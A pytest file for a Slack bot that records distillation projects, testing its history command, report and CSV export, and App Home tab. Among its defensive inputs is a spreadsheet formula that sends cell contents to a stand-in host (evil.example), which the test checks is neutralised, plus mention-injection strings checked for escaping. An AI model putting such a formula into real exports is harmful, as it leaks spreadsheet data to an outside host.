"""The record (`/distill history`, `/distill export`) and the App Home tab, through the real endpoint."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any

from slack_sdk import WebClient
from sqlmodel import Session, select

from bot.fake_slack import FakeSlack
from bot.fake_slack.blockkit import VIEW_MAX_BLOCKS, VIEW_MAX_BYTES, validate_view, view_size_bytes
from bot.membership import CHANNELS_KEPT_FOR, ChannelsOfPeople
from bot.record import RecordedEvent, csv_events
from bot.rendering.home import HOME_PROJECTS_SHOWN
from storage import queries
from storage.engine import session_scope
from storage.models import EventReceipt, Owner, SuccessBars, Waiver
from tests.checklist_flow import TEMPLATE, fill_form, parent_of, submit_view, tick_phase
from tests.conftest import OTHER_CHANNEL, PROJECT_CHANNEL
from tests.support import TEAM, FakeClock, RunningBot
from tests.test_lifecycle import click, command, open_stop_form, phase, project_row, start, to_phase

CH = PROJECT_CHANNEL


def waive_one(bot: RunningBot, fake: FakeSlack, number: int, key: str, reason: str) -> None:
    values = {"item": key, "reason": reason}
    assert fill_form(bot, fake, CH, phase(fake, number), "waive:open", values).status == 200


def untick(bot: RunningBot, fake: FakeSlack, number: int, key: str) -> None:
    bot.slack.click(CH, phase(fake, number)["ts"], key, selected=False)
    bot.settle()


def busy_project(bot: RunningBot, fake: FakeSlack) -> None:
    """A project that has been through every kind of move: shipped, reopened, waived, stopped."""
    to_phase(bot, fake, 8)  # bars, an evaluation, a partial rollout, every phase passed, shipped
    bot.clock.advance(timedelta(hours=1))
    command(bot, fake, "reopen 5 retrained | with more data")
    first, second = (item.key for item in TEMPLATE.phase(5).items[:2])
    click(bot, fake, 5, first)
    untick(bot, fake, 5, first)
    waive_one(bot, fake, 5, second, "Covered by the 2025 audit, see <https://evil.example|docs>")
    bot.clock.advance(timedelta(hours=1))
    form = open_stop_form(bot, fake)
    assert submit_view(bot, form, {"reason": "Teacher got cheaper, so: stop"}).status == 200


def expected_events(bot: RunningBot) -> Counter[tuple[str, str, str]]:
    """Every recorded event as (kind, item, user), straight from the tables."""
    expected: Counter[tuple[str, str, str]] = Counter()
    with Session(bot.engine) as session:
        project = project_row(bot)
        project_id = project.id
        expected[("started", "", project.started_by)] += 1
        for owner in session.exec(select(Owner).where(Owner.project_id == project_id)):
            expected[("owner_added", "", owner.user_id)] += 1
        for tick_event in queries.list_tick_events(session, project_id):
            expected[(tick_event.action, tick_event.item_key, tick_event.user_id)] += 1
        for waiver in session.exec(select(Waiver).where(Waiver.project_id == project_id)):
            expected[("waived", waiver.item_key, waiver.waived_by)] += 1
            if waiver.ended_at:
                expected[("waiver_ended", waiver.item_key, "")] += 1
        for bars in session.exec(select(SuccessBars).where(SuccessBars.project_id == project_id)):
            expected[
                ("bars_amended" if bars.amendment_reason else "bars_recorded", "", bars.recorded_by)
            ] += 1
        for evaluation in queries.list_evaluations(session, project_id):
            expected[("evaluation", "", evaluation.recorded_by)] += 1
        for event in queries.list_project_events(session, project_id):
            expected[(event.kind, "", event.user_id)] += 1
    return expected


# --- history ----------------------------------------------------------------------------------


def test_history_is_private_and_lists_every_kind_of_move(bot: RunningBot, fake_slack: FakeSlack) -> None:
    start(bot, fake_slack)
    tick_phase(bot, fake_slack, CH, 1)
    command(bot, fake_slack, "reopen 1 scope <!here> changed")

    before = len(fake_slack.responses)
    assert bot.slack.command("history", user="UBOB").status == 200  # anyone may read the record
    bot.settle()
    [reply] = fake_slack.responses[before:]
    assert reply.body.get("response_type") == "ephemeral"
    text = reply.body["text"]
    assert "History of Router" in text
    for words in (
        "started the project",
        "ticked",
        "phase passed",
        "reopened the phase",
        "moved to the record",
    ):
        assert words in text, words
    assert "scope &lt;!here&gt; changed" in text and "<!here>" not in text
    assert len(text) < 40_000


def test_history_after_stop_still_answers_and_other_channels_have_none(
    bot: RunningBot, fake_slack: FakeSlack
) -> None:
    start(bot, fake_slack)
    form = open_stop_form(bot, fake_slack)
    submit_view(bot, form, {"outcome": "win"})
    assert "stopped the project" in command(bot, fake_slack, "history")
    before = len(fake_slack.responses)
    bot.slack.command("history", channel="C0OTHER")
    bot.settle()
    assert "no distillation project" in fake_slack.responses[before].body["text"]


# --- export -----------------------------------------------------------------------------------


def parse_markdown_events(report: str) -> list[list[str]]:
    table = report.split("## Every recorded event", 1)[1]
    rows = [line for line in table.splitlines() if re.match(r"^\| \d+ \|", line)]
    return [[cell.strip() for cell in re.split(r"(?<!\\)\|", row)[1:-1]] for row in rows]


def test_export_uploads_a_report_and_a_csv_holding_every_event(
    bot: RunningBot, fake_slack: FakeSlack
) -> None:
    busy_project(bot, fake_slack)
    expected = expected_events(bot)
    assert {kind for kind, _, _ in expected} >= {
        "tick",
        "untick",
        "cleared",
        "waived",
        "phase_passed",
        "shipped",
        "reopened",
        "stopped",
        "rollout",
        "bars_recorded",
        "evaluation",
    }

    reply = command(bot, fake_slack, "export", user="UCAROL")  # anyone may export
    assert f"all {sum(expected.values())} events" in reply
    assert [c.method for c in fake_slack.calls if c.method.startswith("files.")] == [
        "files.getUploadURLExternal",
        "files.getUploadURLExternal",
        "files.completeUploadExternal",
    ]
    files = {f["filename"].rsplit(".", 1)[1]: f for f in fake_slack.files}
    thread_ts = parent_of(fake_slack, CH)["ts"]
    assert {f["thread_ts"] for f in files.values()} == {thread_ts}  # in the project's thread

    rows = list(csv.DictReader(io.StringIO(files["csv"]["content"].decode("utf-8"))))
    assert list(rows[0]) == ["at_utc", "cycle", "phase", "event", "item", "user_id", "user", "detail"]
    assert Counter((r["event"], r["item"], r["user_id"]) for r in rows) == expected
    assert any(
        r["detail"].split(": ", 1)[1] == "Covered by the 2025 audit, see <https://evil.example|docs>"
        for r in rows
        if r["event"] == "waived"
    )

    report = files["md"]["content"].decode("utf-8")
    table = parse_markdown_events(report)
    assert len(table) == len(rows)
    assert [(r[4], r[5]) for r in table] == [(r["event"], r["item"]) for r in rows]
    assert [r[0] for r in table] == [str(n) for n in range(1, len(rows) + 1)]
    # The report reads as a document: outcome, each phase with its items, the bars, the evaluations.
    assert "# Distillation report: Router" in report
    assert "## Outcome" in report and "Teacher got cheaper, so: stop" in report
    for number, phase_def in enumerate(TEMPLATE.phases, start=1):
        assert f"### Phase {number}: {phase_def.title}" in report
    assert "### Success bars and amendments" in report and "accuracy >= 0.9" in report
    assert "### Evaluations against the bars" in report and "bars pass" in report
    assert "### Rollout stages" in report and "5% of traffic" in report
    assert "retrained \\| with more data" in report  # a pipe in user text does not break the table


def test_the_csv_keeps_text_a_spreadsheet_would_run_as_text() -> None:
    """A reopen reason or a display name starting with `=`, `+`, `-` or `@` is a formula to a
    spreadsheet opening the export: it is kept text with a leading apostrophe."""
    formula = '=HYPERLINK("https://evil.example?"&A1,"details")'
    at = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)
    events = [
        RecordedEvent(at, 1, 3, "reopened", "", "UALICE", formula),
        RecordedEvent(at, 1, 3, "ticked", "narrow-task", "UBOB", "plain words, = inside"),
    ]
    names = {"UALICE": "@SUM(1+1)", "UBOB": "-bob"}
    _, reopened, ticked = list(csv.reader(io.StringIO(csv_events(events, names))))
    assert (reopened[6], reopened[7]) == ("'@SUM(1+1)", "'" + formula)
    assert (ticked[4], ticked[6], ticked[7]) == ("narrow-task", "'-bob", "plain words, = inside")


def test_export_needs_the_bot_in_the_channel(bot: RunningBot, fake_slack: FakeSlack) -> None:
    start(bot, fake_slack)
    fake_slack.set_channel(CH, is_member=False)
    assert "invite me" in command(bot, fake_slack, "export")
    assert fake_slack.files == []


# --- App Home ---------------------------------------------------------------------------------


def deliver_event(bot: RunningBot, body: dict[str, Any], **headers: str) -> Any:
    result = bot.slack.post(json.dumps(body).encode(), content_type="application/json", extra_headers=headers)
    bot.settle()
    return result


def home_opened(event_id: str, user: str = "UALICE") -> dict[str, Any]:
    return {
        "token": "deprecated-verification-token",
        "team_id": TEAM,
        "api_app_id": "A0DISTILL",
        "event": {
            "type": "app_home_opened",
            "user": user,
            "channel": "D0HOME",
            "tab": "home",
            "event_ts": "1.2",
        },
        "type": "event_callback",
        "event_id": event_id,
        "event_time": 1_700_000_000,
        "authorizations": [
            {"team_id": TEAM, "user_id": "UBOT", "is_bot": True, "is_enterprise_install": False}
        ],
        "is_ext_shared_channel": False,
    }


def test_events_api_url_verification_and_signatures(bot: RunningBot, fake_slack: FakeSlack) -> None:
    challenge = {
        "token": "x",
        "challenge": "3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P",
        "type": "url_verification",
    }
    answer = deliver_event(bot, challenge)
    assert answer.status == 200 and "3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P" in answer.body
    forged = bot.slack.post(
        json.dumps(home_opened("Ev0FORGED")).encode(), content_type="application/json", secret="wrong"
    )
    assert forged.status == 401
    assert fake_slack.calls_to("views.publish") == []


def test_home_tab_lists_projects_and_a_retried_delivery_publishes_once(
    bot: RunningBot, fake_slack: FakeSlack
) -> None:
    start(bot, fake_slack)
    tick_phase(bot, fake_slack, CH, 1)
    assert deliver_event(bot, home_opened("Ev01")).status == 200
    view = fake_slack.home_view("UALICE")
    assert view is not None and view["type"] == "home"
    text = json.dumps(view["blocks"])
    project = project_row(bot)
    assert f"<{project.permalink}|Router>" in text  # linked to its thread
    assert f"<#{CH}>" in text and "Cycle 1" in text and "Phase 2 of 7" in text
    assert f"{len(TEMPLATE.phase(1).items)}/{TEMPLATE.item_count} items" in text
    assert ":large_green_circle: open" in text and "Next nudge: <!date^" in text

    # Slack retries a delivery it thinks failed; the retry changes nothing.
    assert (
        deliver_event(
            bot, home_opened("Ev01"), **{"X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
        ).status
        == 200
    )
    assert len(fake_slack.calls_to("views.publish")) == 1
    assert deliver_event(bot, home_opened("Ev02")).status == 200  # a new opening refreshes it
    assert len(fake_slack.calls_to("views.publish")) == 2
    # Receipts outlive Slack's retries (minutes), not much longer.
    bot.clock.advance(timedelta(days=2))
    assert deliver_event(bot, home_opened("Ev03")).status == 200
    with Session(bot.engine) as session:
        assert [r.event_id for r in session.exec(select(EventReceipt)).all()] == ["Ev03"]


def test_home_tab_fits_slacks_limits_with_two_hundred_projects(
    bot: RunningBot, fake_slack: FakeSlack
) -> None:
    now = bot.clock()
    for number in range(200):  # more channels than one page of users.conversations
        fake_slack.add_channel(f"C{number:08d}", f"project-{number}")
    with session_scope(bot.engine) as session:
        for number in range(200):
            project = queries.create_project(
                session,
                team_id=TEAM,
                channel_id=f"C{number:08d}",
                name=f"<!channel> & project {number} " + "x" * 50,
                checklist=TEMPLATE.name,
                started_by="UALICE",
                now=now,
            )
            queries.activate_project(
                session, project, permalink=f"https://fake.slack.com/archives/C{number:08d}/p1"
            )
            project.last_activity_at = now + timedelta(minutes=number)
            if number % 10 == 0:
                project.status = "shipped"
                project.rollout_stage, project.rollout_since = "100", now
            if number % 7 == 0:
                project.nudges_paused_reason = "the channel is archived."
            session.add(project)
    assert deliver_event(bot, home_opened("Ev200")).status == 200
    [published] = fake_slack.calls_to("views.publish")
    assert published.ok, published.response
    view = published.args["view"]
    assert validate_view(view) == []
    assert len(view["blocks"]) <= VIEW_MAX_BLOCKS and view_size_bytes(view) <= VIEW_MAX_BYTES
    text = json.dumps(view["blocks"])
    assert "<!channel>" not in text and "&lt;!channel&gt; &amp; project 199" in text
    # Newest activity first: project 199 leads, and the rest is summed up.
    sections = [b["text"]["text"] for b in view["blocks"] if b["type"] == "section"]
    assert len(sections) == HOME_PROJECTS_SHOWN
    assert "project 199 " in sections[0] and f"project {200 - HOME_PROJECTS_SHOWN} " in sections[-1]
    assert f"{200 - HOME_PROJECTS_SHOWN} more projects" in text
    assert "200 in your channels" in text


def add_project(bot: RunningBot, channel_id: str, name: str) -> None:
    with session_scope(bot.engine) as session:
        project = queries.create_project(
            session,
            team_id=TEAM,
            channel_id=channel_id,
            name=name,
            checklist=TEMPLATE.name,
            started_by="UALICE",
            now=bot.clock(),
        )
        queries.activate_project(
            session, project, permalink=f"https://fake.slack.com/archives/{channel_id}/p1"
        )


def test_home_tab_shows_each_person_the_projects_of_their_own_channels(
    bot: RunningBot, fake_slack: FakeSlack
) -> None:
    """A private channel's project is for its members: nobody else's Home tab names it, nor a
    public channel's project to someone outside it (a guest may not see that channel)."""
    fake_slack.add_channel("G0LAUNCH", "launch-plans", is_private=True, members=["UALICE"])
    fake_slack.add_channel("C0ALICE", "alice-team", members=["UALICE"])
    add_project(bot, "G0LAUNCH", "Secret launch")
    add_project(bot, "C0ALICE", "Alice router")
    add_project(bot, OTHER_CHANNEL, "Everyone's ranker")  # a channel everyone is in

    def home_of(user: str, event_id: str) -> str:
        assert deliver_event(bot, home_opened(event_id, user=user)).status == 200
        view = fake_slack.home_view(user)
        assert view is not None
        return json.dumps(view["blocks"])

    alice = home_of("UALICE", "EvA")
    assert "Secret launch" in alice and "Alice router" in alice and "Everyone's ranker" in alice
    assert "3 in your channels" in alice
    bob = home_of("UBOB", "EvB")
    assert "Secret launch" not in bob and "Alice router" not in bob and "G0LAUNCH" not in bob
    assert "Everyone's ranker" in bob and "1 in your channels" in bob

    # Slack does not say which channels Bob is in (his list is due again): nothing is shown
    # rather than everything, and the failure is not kept.
    bot.clock.advance(CHANNELS_KEPT_FOR)
    fake_slack.fail("users.conversations", status=500, times=3)  # the call and its two retries
    bob = home_of("UBOB", "EvC")
    assert "Everyone's ranker" not in bob and "Secret launch" not in bob
    assert "Open this tab again in a moment" in bob
    assert "Everyone's ranker" in home_of("UBOB", "EvD")


def member_event(kind: str, user: str, channel: str) -> dict[str, Any]:
    """A member_joined_channel or member_left_channel delivery, as Slack posts it."""
    body = home_opened(f"Ev{kind}{user}{channel}", user=user)
    body["event"] = {
        "type": kind,
        "user": user,
        "channel": channel,
        "channel_type": "C",
        "team": TEAM,
        "event_ts": "1.3",
    }
    return body


def test_home_tab_lists_a_persons_channels_again_only_when_they_may_have_changed(
    bot: RunningBot, fake_slack: FakeSlack
) -> None:
    """users.conversations is Tier 3 (about 50 calls a minute for the workspace) and Slack
    sends app_home_opened at every click on the tab: a person's list serves their tab for a
    while, and is fetched again when they join or leave a channel, or a project is newer."""
    fake_slack.add_channel("G0LAUNCH", "launch-plans", is_private=True, members=["UALICE"])
    add_project(bot, "G0LAUNCH", "Secret launch")
    listed = lambda: len(fake_slack.calls_to("users.conversations"))  # noqa: E731

    def home_of(user: str, event_id: str) -> str:
        assert deliver_event(bot, home_opened(event_id, user=user)).status == 200
        view = fake_slack.home_view(user)
        assert view is not None
        return json.dumps(view["blocks"])

    for opening in range(5):
        assert "Secret launch" in home_of("UALICE", f"EvOpen{opening}")
    assert listed() == 1 and len(fake_slack.calls_to("views.publish")) == 5
    assert "Secret launch" not in home_of("UBOB", "EvBob")  # each person has their own list
    assert listed() == 2

    # Alice joined a public channel before the bot did: no event tells of it, but the project
    # started there is newer than her list.
    fake_slack.add_channel("C0NEWTEAM", "new-team", members=["UALICE"])
    add_project(bot, "C0NEWTEAM", "New ranker")
    assert "New ranker" in home_of("UALICE", "EvNew")
    assert listed() == 3

    # She leaves the private channel: Slack tells the bot, which is in it.
    fake_slack.set_channel("G0LAUNCH", members=[])
    assert deliver_event(bot, member_event("member_left_channel", "UALICE", "G0LAUNCH")).status == 200
    alice = home_of("UALICE", "EvLeft")
    assert "Secret launch" not in alice and "New ranker" in alice
    assert listed() == 4
    # Bob is added: his tab shows it at his next opening.
    fake_slack.set_channel("G0LAUNCH", members=["UBOB"])
    assert deliver_event(bot, member_event("member_joined_channel", "UBOB", "G0LAUNCH")).status == 200
    assert "Secret launch" in home_of("UBOB", "EvJoined")
    assert listed() == 5

    # Without any event, a list is fetched again once it is CHANNELS_KEPT_FOR old.
    home_of("UALICE", "EvStill")
    assert listed() == 5
    bot.clock.advance(CHANNELS_KEPT_FOR)
    home_of("UALICE", "EvLater")
    assert listed() == 6


def test_lists_of_channels_kept_stay_within_their_bound(fake_slack: FakeSlack) -> None:
    client = WebClient(token=fake_slack.bot_token, base_url=fake_slack.api_url)
    for number in range(4):
        fake_slack.add_channel(f"C0KEPT{number}", f"kept-{number}")  # everyone is in these
    everyone = len(client.users_conversations(user="UALICE", limit=200)["channels"])
    clock = FakeClock()
    lists = ChannelsOfPeople(client, clock, max_channels=2 * everyone)

    def lists_of(*people: str) -> int:
        before = len(fake_slack.calls_to("users.conversations"))
        for person in people:
            assert lists.of(TEAM, person, newest_project=0) is not None
        return len(fake_slack.calls_to("users.conversations")) - before

    assert lists_of("UALICE", "UBOB", "UALICE", "UBOB") == 2  # both kept
    assert lists_of("UCAROL") == 1  # over the bound: Alice's, used longest ago, is forgotten
    assert lists_of("UBOB", "UCAROL") == 0
    assert lists_of("UALICE") == 1


def test_a_list_slack_gave_while_its_person_moved_is_not_kept(fake_slack: FakeSlack) -> None:
    fake_slack.add_channel("G0LAUNCH", "launch-plans", is_private=True, members=["UALICE"])
    client = WebClient(token=fake_slack.bot_token, base_url=fake_slack.api_url)
    lists = ChannelsOfPeople(client, FakeClock())
    answer = fake_slack.hold_answers("users.conversations")  # listed now, answered later
    with ThreadPoolExecutor(max_workers=1) as pool:
        listing = pool.submit(lists.of, TEAM, "UALICE", newest_project=0)
        assert fake_slack.wait_for_arrival("users.conversations")
        fake_slack.set_channel("G0LAUNCH", members=[])
        lists.forget(TEAM, "UALICE")  # her member_left_channel event, while the answer is on its way
        answer.set()
        assert "G0LAUNCH" in (listing.result(timeout=10) or ())  # what Slack said when asked
    assert "G0LAUNCH" not in (lists.of(TEAM, "UALICE", newest_project=0) or {"G0LAUNCH"})
    assert len(fake_slack.calls_to("users.conversations")) == 2
